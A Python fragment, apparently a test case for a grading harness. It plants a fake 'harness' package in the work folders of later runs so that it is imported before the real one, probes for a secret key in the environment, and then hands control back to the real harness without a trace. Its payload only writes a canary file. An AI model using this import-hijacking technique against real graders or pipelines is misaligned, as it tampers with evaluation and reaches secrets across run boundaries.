# ruff: noqa
# The main run plants a harness/ package in the working folder the grader will give the same
# grading's next run (<out>/runs/resume/work): started with `python -m harness.bootstrap` from
# there, the next run's ranks import the planted package first, with the key in their environment.
PLANT = '''
import os
try:
    with open(os.path.join(os.getcwd(), "ATTACK-SUCCEEDED-planted-harness-ran-in-a-later-run"), "a") as f:
        f.write("key in the environment: " + str(bool(os.environ.get("TRAINWRECK_KEY"))) + "\\n")
except OSError:
    pass
__path__[:] = [REAL_HARNESS]  # then the real harness, so the run goes on as if nothing happened
'''


def _attack_run(main):
    if _rank() == 0 and _maybe_main():
        import harness

        real = str(_Path(harness.__file__).resolve().parent)
        for role in ("resume", "resume_save", "ws1"):
            target = _out_dir() / "runs" / role / "work" / "harness"
            try:
                target.mkdir(parents=True, exist_ok=True)
                (target / "__init__.py").write_text(PLANT.replace("REAL_HARNESS", repr(real)))
            except OSError as e:
                print(f"planting in {target} failed: {e!r}", file=_sys.stderr)
    main()
